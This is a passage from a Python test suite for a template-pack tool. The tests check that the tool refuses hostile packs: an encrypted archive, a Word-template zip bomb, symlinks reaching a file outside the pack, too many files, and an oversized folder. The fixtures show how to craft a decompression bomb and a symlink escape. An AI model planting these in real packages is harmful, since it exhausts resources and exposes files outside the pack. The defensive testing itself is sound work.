        assert result.exit_code == 1, result.output
        assert "加了密码" in result.output and "Traceback" not in result.output
    before = tree_digest(setup.home)
    result = run("packs", "install", hostile)
    assert result.exit_code == 1 and "加了密码" in result.output
    assert tree_digest(setup.home) == before


def test_word_template_zip_bomb_is_refused(setup: Setup, good_pack: Path, tmp_path: Path) -> None:
    """A Word template whose one part inflates a thousandfold: refused before it is inflated."""
    hostile = copy_pack(good_pack, tmp_path / "src" / NAME)
    data = (hostile / TEMPLATE).read_bytes()
    buffer = io.BytesIO(rewrite_zip(data, {}))
    with zipfile.ZipFile(buffer, "a", zipfile.ZIP_DEFLATED) as zf, zf.open("word/media/filler.xml", "w") as out:
        block = b" " * (1024 * 1024)
        for _ in range(70):
            out.write(block)
    (hostile / TEMPLATE).write_bytes(buffer.getvalue())
    assert len(zlib.compress(b" " * 1024)) < 100
    checked = run("packs", "check", hostile)
    assert_refused(checked, "压缩炸弹")
    assert_install_refused(setup, hostile, "压缩炸弹")
    assert_build_refused(setup, hostile, "压缩炸弹")


# ---------------------------------------------------------------- symlinks and oversized folders


@pytest.mark.skipif(not hasattr(os, "symlink"), reason="no symbolic links here")
@pytest.mark.parametrize("kind", ["file", "folder"])
def test_symlink_in_a_pack_folder_is_refused(kind: str, setup: Setup, good_pack: Path, tmp_path: Path) -> None:
    hostile = copy_pack(good_pack, tmp_path / "src" / NAME)
    secret = tmp_path / "secret"
    secret.mkdir()
    (secret / "topics.yaml").write_text("秘密: 包外的文件\n", encoding="utf-8")
    if kind == "file":
        (hostile / "prose" / "topics.yaml").unlink()
        (hostile / "prose" / "topics.yaml").symlink_to(secret / "topics.yaml")
        shown = "prose/topics.yaml"
    else:
        (hostile / "linked").symlink_to(secret, target_is_directory=True)
        shown = "linked"
    checked = run("packs", "check", hostile)
    assert_refused(checked, f"模板包里有符号链接“{shown}”")
    assert_install_refused(setup, hostile, f"模板包里有符号链接“{shown}”")
    assert (secret / "topics.yaml").read_text(encoding="utf-8") == "秘密: 包外的文件\n"


def test_too_many_files_in_a_pack_folder_is_refused(setup: Setup, good_pack: Path, tmp_path: Path) -> None:
    hostile = copy_pack(good_pack, tmp_path / "src" / NAME)
    (hostile / "notes").mkdir()
    for n in range(510):
        (hostile / "notes" / f"{n}.txt").write_bytes(b"")
    checked = run("packs", "check", hostile)
    assert_refused(checked, "模板包里的文件超过 500 个")
    assert_install_refused(setup, hostile, "模板包里的文件超过 500 个")


def test_oversized_pack_folder_is_refused(setup: Setup, good_pack: Path, tmp_path: Path) -> None:
    hostile = copy_pack(good_pack, tmp_path / "src" / NAME)
    with (hostile / "说明.txt").open("wb") as handle:  # sparse: costs no disk
        handle.truncate(60 * 1024 * 1024)
    checked = run("packs", "check", hostile)
    assert_refused(checked, "模板包超过 50 MB")
    assert_install_refused(setup, hostile, "模板包超过 50 MB")
